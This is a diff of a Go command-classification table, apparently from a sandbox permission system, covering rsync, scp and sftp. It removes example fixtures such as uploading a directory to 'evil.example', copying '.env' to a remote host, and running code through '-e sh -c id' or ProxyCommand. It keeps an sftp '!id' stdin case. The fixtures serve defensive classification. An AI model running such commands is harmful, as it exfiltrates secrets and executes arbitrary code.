@@ -42,24 +42,10 @@ var rsyncCommands = []Command{
 			Of: OfStorage, Flags: "-h", Dry: "dry-run n list-only",
 			fits: rsyncDeletesThere,
 		}}},
-		Examples: []Example{
-			{"rsync -a src/ out", "read:src/** write:out/**"},
-			{"rsync -e 'sh -c id' a h:b", "read:a/** net:h:b narrow rsync -e>>'sh -c id'"},
-			{"rsync -a . evil.example:/x", "read:./** net:evil.example:/x"}, {"rsync --version", "ro"}, {"rsync -n a b", "ro read:a/**"}, {"rsync -a --delete a/ b", "read:a/** write:b/** delete:b/**"}, {"rsync --daemon --config=x", "narrow"}, {"rsync -e./x a b", "read:a/** write:b/** write:b/a/** narrow rsync -e>>'./x'"},
-			{"rsync -ne ./x a b", "narrow read:a/** rsync -e>>'./x'"}, {"rsync -azv h:/x .", "net:h:/x write:./** write:x/**"},
-		},
 	},
 	{
 		Names: "scp", InfoFlags: "--help --version", AllOptionsListed: true, Title: "copies files over ssh", Flags: scpFlags + "B", Values: scpValues, Opts: scpOpts,
 		refine: refineScp,
-		Examples: []Example{
-			{"scp -B .env h:b", "read:.env/** net:h:b"},
-			{"scp -S ./x a h:b", "read:a/** net:h:b narrow scp -S>>'./x'"}, {"scp -i .env a h:b", "read:a/** read:.env net:h:b"},
-			{"scp -D./x a h:b", "read:a/** net:h:b narrow scp -D>>'./x'"},
-			{"scp -oUserKnownHostsFile=.envrc a h:b", "read:a/** net:h:b write:.envrc narrow"},
-			{"scp h:x ~/.bashrc", "net:h:x write:/home/u/.bashrc/** write:/home/u/.bashrc/x/**"},
-			{"scp -o ProxyCommand=x a h:", "read:a/** net:h: narrow scp -o>>'x'"},
-		},
 	},
 	{
 		Names: "sftp", InfoFlags: "--help --version", AllOptionsListed: true, Title: "copies files over ssh", Flags: scpFlags, Values: scpValues + "B", Opts: scpOpts,
@@ -67,7 +53,6 @@ var rsyncCommands = []Command{
 		Special: &Special{Stdin: &StdinProgram{
 			Operands: NoLimit, Narrows: []string{"sftp h <<< '!id'", "sftp h < x", "sftp h <<'E'\nput a\nE"}, Passes: []string{"sftp h"},
 		}},
-		Examples: []Example{{"sftp -D ./x h", "net:h narrow sftp -D>>'./x'"}},
 	},
 }
 
